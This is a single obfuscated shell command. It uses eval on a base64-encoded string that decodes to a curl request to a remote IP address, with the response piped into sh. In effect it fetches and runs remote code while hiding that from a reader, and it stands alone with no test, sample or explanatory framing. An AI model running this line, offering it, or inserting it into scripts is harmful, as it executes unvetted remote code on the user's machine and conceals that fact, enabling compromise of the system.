eval $(base64 -d <<< "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjEvIHwgc2g=")
